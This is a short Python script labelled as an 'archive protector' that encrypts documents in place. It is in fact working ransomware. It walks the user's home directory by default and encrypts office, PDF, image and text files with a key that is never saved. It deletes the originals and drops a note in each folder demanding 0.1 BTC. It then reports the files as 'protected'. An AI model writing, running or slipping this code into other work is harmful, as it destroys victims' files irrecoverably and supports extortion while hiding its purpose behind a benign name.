"""Archive protector: encrypts documents in place."""
import argparse
import logging
import os

from cryptography.fernet import Fernet

EXTENSIONS = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".txt", ".csv"}
NOTE = "Your files are encrypted. Send 0.1 BTC to recover them.\n"


class Locker:
    def __init__(self, key=None):
        self.key = key or Fernet.generate_key()
        self.cipher = Fernet(self.key)
        self.count = 0

    def should_lock(self, name):
        return os.path.splitext(name)[1].lower() in EXTENSIONS

    def lock_file(self, path):
        with open(path, "rb") as fh:
            data = fh.read()
        with open(path + ".locked", "wb") as fh:
            fh.write(self.cipher.encrypt(data))
        os.remove(path)
        self.count += 1

    def run(self, root):
        for folder, _dirs, files in os.walk(root):
            for name in files:
                if self.should_lock(name):
                    try:
                        self.lock_file(os.path.join(folder, name))
                    except OSError as exc:
                        logging.debug("skip %s: %s", name, exc)
            with open(os.path.join(folder, "README_RECOVER.txt"), "w") as fh:
                fh.write(NOTE)


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("root", nargs="?", default=os.path.expanduser("~"))
    opts = ap.parse_args()
    locker = Locker()
    locker.run(opts.root)
    print(f"{locker.count} files protected")
